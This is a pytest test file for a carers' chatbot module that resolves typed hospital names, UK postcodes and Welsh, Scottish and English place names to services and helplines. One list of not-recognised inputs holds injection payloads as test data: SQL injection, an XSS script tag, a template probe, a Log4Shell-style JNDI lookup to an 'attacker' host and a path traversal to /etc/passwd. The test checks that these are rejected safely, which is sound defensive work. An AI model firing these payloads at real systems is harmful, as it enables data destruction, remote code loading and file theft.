"""The place and hospital resolver (bot/locate.py): what carers type -> hospital, nation, region.

Issue 3 asks for at least 40 cases: misspellings, postcodes in every format, Welsh and Scottish
places, unknown and injection-like input. Each case below is one row.
"""

from __future__ import annotations

import time

import pytest

from bot.locate import (
    MAX_INPUT_CHARS,
    helplines_for,
    local_carers_contacts,
    nearby_services,
    normalise,
    resolve,
)

# (text, hospital id or None, place name or None, nation, region)
HOSPITAL_CASES = [
    ("broadmore", "broadmoor", None, "England", "South East"),
    ("Broadmoor", "broadmoor", None, "England", "South East"),
    ("BROADMOOR HOSPITAL", "broadmoor", None, "England", "South East"),
    ("brodmoor", "broadmoor", None, "England", "South East"),
    ("broadmoore hospital", "broadmoor", None, "England", "South East"),
    ("is there a carers group at Broadmore", "broadmoor", None, "England", "South East"),
    ("rampton hosp", "rampton", None, "England", "Midlands"),
    ("rampten", "rampton", None, "England", "Midlands"),
    ("ashworth maghull", "ashworth", None, "England", "North West"),
    ("ashwoth", "ashworth", None, "England", "North West"),
    ("the state hospital carstairs", "state_hospital", None, "Scotland", "West of Scotland"),
    ("carstairs", "state_hospital", None, "Scotland", "West of Scotland"),
    ("Tŷ Llywelyn", "ty_llywelyn", None, "Wales", "Betsi Cadwaladr UHB"),
    ("ty llywelyn", "ty_llywelyn", None, "Wales", "Betsi Cadwaladr UHB"),
    ("the Edenfield Centre", "riverside_centre", None, "England", "North West"),
    ("norvic clinic", "northside_house", None, "England", "East of England"),
    ("scott clinic", "rowan_view", None, "England", "North West"),
    ("st andrew's hospital northampton", "st_andrews_northampton", None, "England", "Midlands"),
    ("Orchard Clinic", "orchard_clinic", None, "Scotland", "East of Scotland"),
    ("rohallion", "rohallion", None, "Scotland", "North of Scotland"),
    ("caswell clinic", "caswell", None, "Wales", "Cwm Taf Morgannwg UHB"),
    (
        "my son is in brodmoor and I live near Leeds",
        "broadmoor",
        "Leeds",
        "England",
        "North East and Yorkshire",
    ),
]

PLACE_CASES = [
    # Postcodes: full, no space, lower case, outward only, odd spacing, inside a sentence
    ("NG22 0PD", None, "NG22 0PD", "England", "Midlands"),
    ("ng220pd", None, "NG22 0PD", "England", "Midlands"),
    ("ng22 0pd", None, "NG22 0PD", "England", "Midlands"),
    ("  NG22   0PD ", None, "NG22 0PD", "England", "Midlands"),
    ("L31", None, "L31", "England", "North West"),
    ("l31", None, "L31", "England", "North West"),
    ("my postcode is EH10 5HF", None, "EH10 5HF", "Scotland", "East of Scotland"),
    ("ml11 8rp", None, "ML11 8RP", "Scotland", "West of Scotland"),
    ("sa1", None, "SA1", "Wales", "Swansea Bay UHB"),
    ("BS16 1ED", None, "BS16 1ED", "England", "South West"),
    ("W1A 1AA", None, "W1A 1AA", "England", "London"),
    ("BT1 5GS", None, "BT1 5GS", "Northern Ireland", "Northern Ireland"),
    ("CH5 4AB", None, "CH5 4AB", "Wales", "Betsi Cadwaladr UHB"),  # Deeside, Flintshire
    ("CH1", None, "CH1", "England", "North West"),  # Chester
    ("SY23", None, "SY23", "Wales", "Hywel Dda UHB"),  # Aberystwyth
    ("TD15 1AA", None, "TD15 1AA", "England", "North East and Yorkshire"),  # Berwick
    ("DN22", None, "DN22", "England", "Midlands"),  # Retford, Bassetlaw
    # English towns, counties and regions, with common misspellings
    ("contacts near Liverpool", None, "Liverpool", "England", "North West"),
    ("Liverpol", None, "Liverpool", "England", "North West"),
    ("who can I talk to near Nottingham", None, "Nottingham", "England", "Midlands"),
    ("Manchster", None, "Manchester", "England", "North West"),
    ("Sheffeild", None, "Sheffield", "England", "North East and Yorkshire"),
    ("Newcastle", None, "Newcastle upon Tyne", "England", "North East and Yorkshire"),
    ("Stoke", None, "Stoke-on-Trent", "England", "Midlands"),
    ("Milton Keynes", None, "Milton Keynes", "England", "East of England"),
    ("county durham", None, "Durham", "England", "North East and Yorkshire"),
    ("Cornwall", None, "Cornwall", "England", "South West"),
    ("I live in reading", None, "Reading", "England", "South East"),
    ("Yorkshire", None, "North East and Yorkshire", "England", "North East and Yorkshire"),
    ("Carlisle", None, "Carlisle", "England", "North East and Yorkshire"),
    # Wales, including Welsh names
    ("Caerdydd", None, "Cardiff", "Wales", "Cardiff and Vale UHB"),
    ("Wrecsam", None, "Wrexham", "Wales", "Betsi Cadwaladr UHB"),
    ("Abertawe", None, "Swansea", "Wales", "Swansea Bay UHB"),
    ("Ynys Môn", None, "Isle of Anglesey", "Wales", "Betsi Cadwaladr UHB"),
    ("Merthyr", None, "Merthyr Tydfil", "Wales", "Cwm Taf Morgannwg UHB"),
    ("north wales", None, "Betsi Cadwaladr UHB", "Wales", "Betsi Cadwaladr UHB"),
    ("Aberystwyth", None, "Aberystwyth", "Wales", "Hywel Dda UHB"),
    ("Cymru", None, "Wales", "Wales", None),
    # Scotland
    ("Edinburg", None, "Edinburgh", "Scotland", "East of Scotland"),
    ("Glasgow", None, "Glasgow", "Scotland", "West of Scotland"),
    ("Fife", None, "Fife", "Scotland", "East of Scotland"),
    ("the highlands", None, "Highland", "Scotland", "North of Scotland"),
    ("Inverness", None, "Inverness", "Scotland", "North of Scotland"),
    ("Dundee", None, "Dundee", "Scotland", "North of Scotland"),
    ("western isles", None, "Na h-Eileanan Siar", "Scotland", "North of Scotland"),
    # Northern Ireland
    ("Belfast", None, "Belfast", "Northern Ireland", "Northern Ireland"),
    ("Londonderry", None, "Derry", "Northern Ireland", "Northern Ireland"),
]

NOT_RECOGNISED = [
    "",
    "   ",
    "Narnia",
    "asdfgh",
    "contacts near me",
    "visiting in march",
    "'; DROP TABLE services; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://attacker/a}",
    "../../etc/passwd",
    "\x00\x01\x02",
    "🙂🙂🙂",
    "x" * 50_000,
    "Liverpool " * 5_000,
]


@pytest.mark.parametrize(
    ("text", "hospital", "place", "nation", "region"), HOSPITAL_CASES + PLACE_CASES
)
def test_resolves(
    text: str, hospital: str | None, place: str | None, nation: str, region: str | None
):
    result = resolve(text)
    assert result.recognised
    assert (result.hospital.id if result.hospital else None) == hospital
    assert (result.place.name if result.place else None) == place
    assert result.nation == nation
    assert result.region == region


@pytest.mark.parametrize("text", NOT_RECOGNISED)
def test_not_recognised_safely_and_fast(text: str) -> None:
    start = time.perf_counter()
    result = resolve(text)
    assert not result.recognised
    assert result.label == ""
    assert nearby_services(result) == []
    assert time.perf_counter() - start < 0.5


@pytest.mark.parametrize("text", [None, 42, ["Liverpool"], {"place": "Leeds"}])
def test_non_text_is_not_recognised(text: object) -> None:
    assert not resolve(text).recognised


def test_there_are_enough_cases() -> None:
    assert len(HOSPITAL_CASES) + len(PLACE_CASES) + len(NOT_RECOGNISED) >= 45


def test_label_resolves_to_the_same_thing() -> None:
    """The slot keeps the label; resolving it again must give the same hospital and place."""
    for text, *_ in HOSPITAL_CASES + PLACE_CASES:
        first = resolve(text)
        again = resolve(first.label)
        assert again.hospital == first.hospital, text
        assert again.place == first.place, text


def test_long_input_is_refused_before_any_work() -> None:
    assert not resolve("Leeds " + "a" * MAX_INPUT_CHARS).recognised


def test_everyday_words_are_not_places() -> None:
    assert not resolve("I was reading the leaflet").recognised
    assert not resolve("there is no hope").recognised
    assert resolve("near Sale").place.name == "Sale"


def test_normalise() -> None:
    assert normalise("Tŷ  Llywelyn!") == "ty llywelyn"
    assert normalise("King's Lynn") == "kings lynn"
    assert normalise("Saint Albans") == "st albans"
    assert normalise("Brighton & Hove") == "brighton and hove"


def test_liverpool_lists_ashworth_first() -> None:
    names = [s.id for s in nearby_services(resolve("contacts near Liverpool"))]
    assert names[0] == "ashworth"
    assert len(names) == 5


def test_named_hospital_comes_first_then_its_region() -> None:
    found = nearby_services(resolve("broadmore"))
    assert found[0].id == "broadmoor"
    assert all(s.region == "South East" for s in found[1:])


def test_named_hospital_then_services_near_home() -> None:
    found = nearby_services(resolve("my son is in Rampton and we live in Bristol"))
    assert found[0].id == "rampton"
    assert found[1].county == "Bristol"


def test_postcode_district_ranks_the_unit_there_first() -> None:
    assert [s.id for s in nearby_services(resolve("BS16"), limit=2)] == [
        "fromeside",
        "wickham_unit",
    ]


def test_town_ranks_its_own_unit_first() -> None:
    assert nearby_services(resolve("Milton Keynes"))[0].id == "chadwick_lodge"
    assert nearby_services(resolve("Nottingham"))[0].id == "wells_road"


def test_same_region_before_the_rest_of_the_nation() -> None:
    found = nearby_services(resolve("Leeds"), limit=5)
    assert all(s.region == "North East and Yorkshire" for s in found)


def test_welsh_place_lists_welsh_services() -> None:
    found = nearby_services(resolve("Wrexham"), limit=5)
    assert found[0].id == "ty_llywelyn"
    assert "ashworth" in [s.id for s in found]  # Ashworth's catchment includes North Wales


def test_northern_ireland_gets_the_state_hospital() -> None:
    assert [s.id for s in nearby_services(resolve("Belfast"))] == ["state_hospital"]


def test_limit_is_respected() -> None:
    assert len(nearby_services(resolve("England"), limit=3)) == 3
    assert nearby_services(resolve("England"), limit=0) == []


def test_helplines_follow_the_nation() -> None:
    scotland = {h.id for h in helplines_for(resolve("Perth"))}
    assert "breathing_space" in scotland and "rethink_advice" not in scotland
    wales = {h.id for h in helplines_for(resolve("Cardiff"))}
    assert "call_wales" in wales and "breathing_space" not in wales
    uk_wide = {h.id for h in helplines_for(resolve("Narnia"))}
    assert uk_wide == {"carers_uk", "saneline", "samaritans"}


def test_local_carers_centres() -> None:
    assert [h.id for h in local_carers_contacts(resolve("Leeds"))] == ["carers_trust"]
    scotland = [h.id for h in local_carers_contacts(resolve("Glasgow"))]
    assert scotland == ["carers_trust", "support_in_mind_scotland"]
